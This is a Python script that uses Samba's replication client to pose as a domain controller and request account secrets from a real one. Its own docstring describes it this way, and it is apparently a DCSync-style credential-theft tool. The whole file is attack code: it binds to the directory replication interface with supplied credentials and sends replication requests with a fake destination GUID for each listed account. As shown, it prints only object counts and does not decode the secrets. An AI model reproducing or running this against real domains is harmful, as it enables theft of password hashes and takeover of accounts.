#!/usr/bin/python3
"""Asks a domain controller for the secrets of accounts as if it were one itself, with Samba's own replication client.

    replica.py CONTROLLER USER PASSWORD ACCOUNT-DN ...
"""
import sys

from samba import credentials, param
from samba.dcerpc import drsuapi, misc

server, user, password, *accounts = sys.argv[1:]
lp = param.LoadParm()
lp.load("client.conf")
who = credentials.Credentials()
who.guess(lp)
who.set_username(user)
who.set_password(password)
who.set_domain("HILL")
who.set_kerberos_state(credentials.DONT_USE_KERBEROS)
drs = drsuapi.drsuapi(f"ncacn_ip_tcp:{server}[seal]", lp, who)
info = drsuapi.DsBindInfoCtr()
info.length = 28
info.info = drsuapi.DsBindInfo28()
info.info.supported_extensions = (drsuapi.DRSUAPI_SUPPORTED_EXTENSION_GETCHGREQ_V8 | drsuapi.DRSUAPI_SUPPORTED_EXTENSION_GETCHGREPLY_V6
                                  | drsuapi.DRSUAPI_SUPPORTED_EXTENSION_STRONG_ENCRYPTION | drsuapi.DRSUAPI_SUPPORTED_EXTENSION_BASE)
_, handle = drs.DsBind(misc.GUID(drsuapi.DRSUAPI_DS_BIND_GUID), info)
for dn in accounts:
    r = drsuapi.DsGetNCChangesRequest8()
    r.destination_dsa_guid = misc.GUID("11223344-5566-7788-99aa-bbccddeeff00")
    r.naming_context = drsuapi.DsReplicaObjectIdentifier()
    r.naming_context.dn = dn
    r.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
    r.highwatermark = drsuapi.DsReplicaHighWaterMark()
    r.max_object_count, r.max_ndr_size = 1, 400000
    r.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
    level, reply = drs.DsGetNCChanges(handle, 8, r)
    print(dn, "level", level, "objects", reply.object_count, flush=True)
